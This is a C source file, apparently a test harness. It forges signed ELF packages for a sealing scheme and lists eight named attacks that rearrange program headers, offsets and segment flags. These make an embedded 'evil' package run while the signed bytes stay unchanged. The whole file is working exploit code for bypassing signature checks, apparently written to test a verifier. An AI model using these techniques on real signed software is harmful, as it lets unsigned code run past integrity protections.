/* Changes signed packages like an attacker who wants other code to run, but has no key: the signed bytes keep their
 * values and their order, and the file's other headers describe them differently. The code comes along as a constant: a
 * whole package, ready to run at a given address.
 *
 *   forge where VICTIM                 prints two addresses: that of the constants, and that which ATTACK "moved" gives
 *                                      them
 *   forge carry EVIL ADDRESS NPY       the package as a constant that can run at the address
 *   forge ATTACK VICTIM EVIL OUTPUT    EVIL is the package in VICTIM's constant; the attacks are listed at the end */
#include <elf.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "format/skplan.h"

enum { PAGE = 4096, MOST_BYTES = 1 << 20, FREE_BYTES = 80 /* signature and hash */ };

struct package {
	uint8_t *bytes;
	uint64_t size;
	Elf64_Ehdr *header;
	Elf64_Phdr *headers;
	const Elf64_Phdr *loads[8]; /* and NULL */
	uint64_t load_count;
	struct sk_plan_seal *seal;
};

static void give_up(const char *what)
{
	fprintf(stderr, "forge: %s\n", what);
	exit(1);
}

static uint64_t round_up(uint64_t value)
{
	return (value + PAGE - 1) & ~(uint64_t)(PAGE - 1);
}

/* From the file's beginning, room for MOST_BYTES. */
static struct package read_package(const char *path)
{
	struct package package = {.bytes = calloc(1, MOST_BYTES)};
	FILE *stream = fopen(path, "rb");

	if (!stream || !package.bytes)
		give_up(path);
	package.size = fread(package.bytes, 1, MOST_BYTES, stream);
	fclose(stream);
	package.header = (void *)package.bytes;
	package.headers = (void *)(package.bytes + package.header->e_phoff);
	for (int i = 0; i < package.header->e_phnum && package.load_count < 7; i++)
		if (package.headers[i].p_type == PT_LOAD)
			package.loads[package.load_count++] = &package.headers[i];
	for (uint64_t at = 0; at < package.loads[0]->p_filesz; at += SK_PLAN_ALIGN) {
		struct sk_plan *plan = (void *)(package.bytes + at);

		if (plan->magic == SK_PLAN_MAGIC && plan->version == SK_PLAN_VERSION)
			package.seal = &plan->seal;
	}
	if (!package.seal)
		give_up("no seal");
	return package;
}

static void write_file(const char *path, const void *head, size_t head_size, const void *bytes, size_t size)
{
	FILE *stream = fopen(path, "wb");

	if (!stream || fwrite(head, 1, head_size, stream) != head_size || fwrite(bytes, 1, size, stream) != size ||
	    fclose(stream))
		give_up(path);
}

static Elf64_Phdr *find_header(const struct package *package, uint32_t type)
{
	for (int i = 0; i < package->header->e_phnum; i++)
		if (package->headers[i].p_type == type)
			return &package->headers[i];
	give_up("a program header is missing");
	return NULL;
}

/* ---- a package as a constant ---- */

static uint64_t loaded_size(const struct package *package)
{
	const Elf64_Phdr *last = package->loads[package->load_count - 1];

	return round_up(last->p_offset + last->p_filesz);
}

static uint64_t find_tag(const struct package *package, int64_t tag)
{
	const Elf64_Phdr *dynamic = find_header(package, PT_DYNAMIC);
	const Elf64_Dyn *entries = (void *)(package->bytes + dynamic->p_offset);

	for (uint64_t i = 0; entries[i].d_tag != DT_NULL; i++)
		if (entries[i].d_tag == tag)
			return entries[i].d_un.d_val;
	return 0;
}

/* The package must have no relocations. */
static void move_tables(struct package *package, uint64_t address)
{
	Elf64_Sym *symbols = (void *)(package->bytes + find_tag(package, DT_SYMTAB));
	const uint32_t *hash = (void *)(package->bytes + find_tag(package, DT_HASH));
	Elf64_Dyn *entries = (void *)(package->bytes + find_header(package, PT_DYNAMIC)->p_offset);

	if (find_tag(package, DT_RELASZ))
		give_up("it has relocations");
	for (uint32_t i = 0; i < hash[1]; i++)
		if (symbols[i].st_shndx != SHN_UNDEF)
			symbols[i].st_value += address;
	for (; entries->d_tag != DT_NULL; entries++)
		if (entries->d_tag == DT_HASH || entries->d_tag == DT_GNU_HASH || entries->d_tag == DT_SYMTAB ||
		    entries->d_tag == DT_STRTAB)
			entries->d_un.d_ptr += address;
}

static void carry(const char *path, uint64_t address, const char *output)
{
	struct package evil = read_package(path);
	char shape[118], head[129];

	move_tables(&evil, address);
	/* The signed bytes have zeros for the parts of the seal that may differ. */
	memset(evil.seal->signature, 0, FREE_BYTES);
	snprintf(shape, sizeof(shape), "{'descr': '|u1', 'fortran_order': False, 'shape': (%lu,), }",
		 (unsigned long)loaded_size(&evil));
	snprintf(head, sizeof(head), "\x93NUMPY\x01%cv%c%-117s\n", 0, 0, shape);
	write_file(output, head, sizeof(head) - 1, evil.bytes, loaded_size(&evil));
	free(evil.bytes);
}

/* ---- the same bytes in another layout ---- */

/* The start of the second of the new segments: after the headers, and in place for the bytes after the ELF header. */
#define SECOND ((uint64_t)PAGE + sizeof(Elf64_Ehdr))

static uint64_t signed_before_constants(const struct package *victim)
{
	uint64_t size = 0;

	for (uint64_t i = 0; i + 1 < victim->load_count; i++)
		size += victim->loads[i]->p_filesz;
	return size;
}

static uint64_t moved_address(const struct package *victim)
{
	return round_up(SECOND + signed_before_constants(victim) - sizeof(Elf64_Ehdr));
}

static Elf64_Phdr segment(uint32_t type, uint32_t flags, uint64_t offset, uint64_t address, uint64_t size)
{
	return (Elf64_Phdr){type, flags, offset, address, address, size, size, type == PT_LOAD ? PAGE : 8};
}

/* The ELF header alone is the first segment. `gap`: between the constants' place in the file and their address. */
static void lay_out_anew(struct package *victim, const struct package *evil, uint64_t gap)
{
	uint64_t before = signed_before_constants(victim), constants = moved_address(victim), at = 0;
	const Elf64_Phdr *last = victim->loads[victim->load_count - 1], *dynamic = find_header(evil, PT_DYNAMIC);
	uint8_t *bytes = calloc(1, MOST_BYTES), *seal;
	uint8_t *signature = victim->seal->signature;
	Elf64_Phdr headers[64] = {0};
	uint64_t count = 0;

	for (uint64_t i = 0; i + 1 < victim->load_count; i++) {
		memcpy(bytes + SECOND - sizeof(Elf64_Ehdr) + at, victim->bytes + victim->loads[i]->p_offset,
		       victim->loads[i]->p_filesz);
		at += victim->loads[i]->p_filesz;
	}
	seal = bytes + SECOND - sizeof(Elf64_Ehdr) + ((uint8_t *)signature - victim->bytes);
	memset(seal, 0, FREE_BYTES);
	memcpy(bytes, victim->bytes, sizeof(Elf64_Ehdr));
	memset(bytes + SECOND - sizeof(Elf64_Ehdr), 0, sizeof(Elf64_Ehdr));
	memcpy(bytes + constants + gap, victim->bytes + last->p_offset, last->p_filesz);
	memcpy(bytes + constants + gap + ((uint8_t *)evil->seal->signature - evil->bytes), signature,
	       sizeof(evil->seal->signature));

	headers[count++] = segment(PT_LOAD, PF_R, 0, 0, sizeof(Elf64_Ehdr));
	headers[count++] = segment(PT_LOAD, PF_R, SECOND, SECOND, before - sizeof(Elf64_Ehdr));
	for (uint64_t i = 0; i < evil->load_count; i++) {
		const Elf64_Phdr *load = evil->loads[i];
		uint64_t end = i + 1 < evil->load_count ? evil->loads[i + 1]->p_offset : loaded_size(evil);

		headers[count++] = segment(PT_LOAD, load->p_flags & (PF_R | PF_X), constants + gap + load->p_offset,
					   constants + load->p_offset, end - load->p_offset);
	}
	headers[count++] = segment(PT_DYNAMIC, PF_R, constants + gap + dynamic->p_offset, constants + dynamic->p_offset,
				   dynamic->p_filesz);
	memcpy(bytes + sizeof(Elf64_Ehdr), headers, victim->header->e_phnum * sizeof(*headers));
	victim->size = constants + gap + last->p_filesz;
	free(victim->bytes); /* with all headers that point into it */
	victim->bytes = bytes;
}

/* ---- the attacks ---- */

/* As it was found: the constants are elsewhere in the file than in memory. */
static void attack_moved(struct package *victim, const struct package *evil)
{
	lay_out_anew(victim, evil, PAGE);
}

/* The same with offsets that equal addresses. */
static void attack_headers(struct package *victim, const struct package *evil)
{
	lay_out_anew(victim, evil, 0);
}

/* Other headers, after the signed bytes, give the constants' package its place. */
static void attack_phoff(struct package *victim, const struct package *evil)
{
	uint64_t size = victim->header->e_phnum * sizeof(Elf64_Phdr);

	(void)evil;
	victim->header->e_phoff = round_up(victim->size);
	memcpy(victim->bytes + victim->header->e_phoff, victim->headers, size);
	victim->size = victim->header->e_phoff + size;
}

static Elf64_Phdr *last_load(const struct package *victim)
{
	return &victim->headers[victim->loads[victim->load_count - 1] - victim->headers];
}

static void attack_dynamic(struct package *victim, const struct package *evil)
{
	Elf64_Phdr *dynamic = find_header(victim, PT_DYNAMIC);
	const Elf64_Phdr *constants = last_load(victim);
	uint64_t signature = constants->p_offset + (uint64_t)(evil->seal->signature - evil->bytes);

	memcpy(victim->bytes + signature, victim->seal->signature, sizeof(victim->seal->signature));
	memset(victim->seal->signature, 0, FREE_BYTES);
	*dynamic = *find_header(evil, PT_DYNAMIC);
	dynamic->p_offset += constants->p_offset;
	dynamic->p_vaddr += constants->p_vaddr;
}

static void attack_flags(struct package *victim, const struct package *evil)
{
	(void)evil;
	last_load(victim)->p_flags = PF_R | PF_X;
}

/* In the file; in memory they are where they were. */
static void attack_overlapping(struct package *victim, const struct package *evil)
{
	(void)evil;
	last_load(victim)->p_offset = victim->loads[1]->p_offset;
}

static void attack_overlapping_in_memory(struct package *victim, const struct package *evil)
{
	(void)evil;
	last_load(victim)->p_offset = last_load(victim)->p_vaddr = victim->loads[1]->p_vaddr;
}

/* Nothing that is signed, but where text's last page goes on in the file. */
static void attack_tail(struct package *victim, const struct package *evil)
{
	(void)evil;
	for (uint64_t i = 0; i < victim->load_count; i++)
		if (victim->loads[i]->p_flags & PF_X)
			memset(victim->bytes + victim->loads[i]->p_offset + victim->loads[i]->p_filesz, 0xcc, 64);
}

static const struct attack {
	const char *name;
	void (*change)(struct package *victim, const struct package *evil);
} attacks[] = {
	{"moved", attack_moved},
	{"headers", attack_headers},
	{"phoff", attack_phoff},
	{"dynamic", attack_dynamic},
	{"flags", attack_flags},
	{"overlapping", attack_overlapping},
	{"overlapping-in-memory", attack_overlapping_in_memory},
	{"tail", attack_tail},
};

static bool attack(const char *name, const char *victim_path, const char *evil_path, const char *output)
{
	struct package victim = read_package(victim_path), evil = read_package(evil_path);
	bool known = false;

	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
		if (strcmp(name, attacks[i].name))
			continue;
		attacks[i].change(&victim, &evil);
		write_file(output, "", 0, victim.bytes, victim.size);
		known = true;
	}
	free(victim.bytes);
	free(evil.bytes);
	return known;
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "where")) {
		struct package victim = read_package(argv[2]);

		printf("%lu %lu\n", (unsigned long)last_load(&victim)->p_vaddr, (unsigned long)moved_address(&victim));
		free(victim.bytes);
		return 0;
	}
	if (argc == 5 && !strcmp(argv[1], "carry")) {
		carry(argv[2], strtoul(argv[3], NULL, 0), argv[4]);
		return 0;
	}
	if (argc == 5 && attack(argv[1], argv[2], argv[3], argv[4]))
		return 0;
	fprintf(stderr, "usage: see forge.c\n");
	return 1;
}
